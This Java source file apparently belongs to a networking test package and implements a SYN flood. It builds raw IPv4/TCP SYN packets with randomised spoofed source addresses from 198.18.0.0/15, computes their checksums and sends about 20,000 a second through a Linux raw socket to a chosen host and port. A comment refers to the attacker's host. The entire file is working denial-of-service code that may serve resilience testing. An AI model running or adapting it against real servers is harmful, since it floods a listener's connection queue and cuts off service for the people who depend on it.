package io.tapetum.interop.flood;

import java.io.IOException;
import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.lang.invoke.MethodHandle;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.util.SplittableRandom;
import java.util.concurrent.locks.LockSupport;

/**
 * Sends SYNs that nobody will ever go on with, from random addresses of 198.18.0.0/15 (RFC 2544), through a raw socket
 * that takes whole IPv4 packets (raw(7)). The kernel fills in what the IPv4 header lacks.
 */
final class SynSender implements Flood.Wave {

    /** AF_INET, SOCK_RAW and IPPROTO_RAW of socket(2) on Linux. */
    private static final int INET = 2;
    private static final int RAW = 3;
    private static final int IPPROTO_RAW = 255;

    private static final int PACKET_OCTETS = 40;
    private static final int TCP_OFFSET = 20;
    private static final int ADDRESS_OCTETS = 16;

    /** About 20,000 packets a second: many times what a listener's queue holds, and little for the wire. */
    private static final int BURST = 100;
    private static final long PAUSE_NANOS = 5_000_000;

    private static final MethodHandle SOCKET = function("socket", FunctionDescriptor.of(ValueLayout.JAVA_INT,
            ValueLayout.JAVA_INT, ValueLayout.JAVA_INT, ValueLayout.JAVA_INT));
    private static final MethodHandle SENDTO = function("sendto", FunctionDescriptor.of(ValueLayout.JAVA_LONG,
            ValueLayout.JAVA_INT, ValueLayout.ADDRESS, ValueLayout.JAVA_LONG, ValueLayout.JAVA_INT, ValueLayout.ADDRESS,
            ValueLayout.JAVA_INT));

    private final InetSocketAddress target;
    private final SplittableRandom random;
    private final MemorySegment packet = Arena.global().allocate(PACKET_OCTETS);
    private final MemorySegment address = Arena.global().allocate(ADDRESS_OCTETS);
    private int socket = -1;

    SynSender(InetSocketAddress target, long seed) {
        this.target = target;
        this.random = new SplittableRandom(seed);
        address.asByteBuffer().order(java.nio.ByteOrder.nativeOrder()).putShort((short) INET);
        address.asByteBuffer().putShort(2, (short) target.getPort()).put(4, target.getAddress().getAddress());
    }

    /** Sends a burst. The socket is opened by the first one, on the thread that lives on the attacker's host. */
    @Override
    public void roll() throws IOException {
        try {
            if (socket < 0) {
                socket = (int) SOCKET.invokeExact(INET, RAW, IPPROTO_RAW);
            }
            for (int i = 0; i < BURST; i++) {
                write(packet.asByteBuffer());
                long sent = (long) SENDTO.invokeExact(socket, packet, (long) PACKET_OCTETS, 0, address, ADDRESS_OCTETS);
                if (sent != PACKET_OCTETS) {
                    throw new IOException("a SYN could not be sent");
                }
            }
        } catch (IOException | RuntimeException | Error e) {
            throw e;
        } catch (Throwable e) {
            throw new IllegalStateException(e);
        }
        LockSupport.parkNanos(PAUSE_NANOS);
    }

    /** How many packets a wave is. */
    static int burst() {
        return BURST;
    }

    private void write(ByteBuffer octets) {
        int source = 0xC612_0000 | random.nextInt(1 << 17);
        octets.put((byte) 0x45).put((byte) 0).putShort((short) PACKET_OCTETS).putInt(0).put((byte) 64).put((byte) 6)
                .putShort((short) 0).putInt(source).put(target.getAddress().getAddress());
        octets.putShort((short) random.nextInt(1024, 65536)).putShort((short) target.getPort())
                .putInt(random.nextInt()).putInt(0).put((byte) 0x50).put((byte) 0x02).putShort((short) 64240)
                .putShort((short) 0).putShort((short) 0);
        octets.putShort(TCP_OFFSET + 16, checksum(octets));
    }

    /** RFC 9293 §3.1: over a pseudo header of both addresses, the protocol and the length, and over the segment. */
    private static short checksum(ByteBuffer octets) {
        int sum = 6 + PACKET_OCTETS - TCP_OFFSET;
        for (int i = 12; i < PACKET_OCTETS; i += 2) {
            sum += octets.getShort(i) & 0xFFFF;
        }
        sum = (sum & 0xFFFF) + (sum >>> 16);
        return (short) ~(sum + (sum >>> 16));
    }

    @SuppressWarnings("restricted") // The two functions are called as their manual pages declare them.
    private static MethodHandle function(String name, FunctionDescriptor descriptor) {
        Linker linker = Linker.nativeLinker();
        return linker.downcallHandle(linker.defaultLookup().find(name).orElseThrow(), descriptor);
    }
}
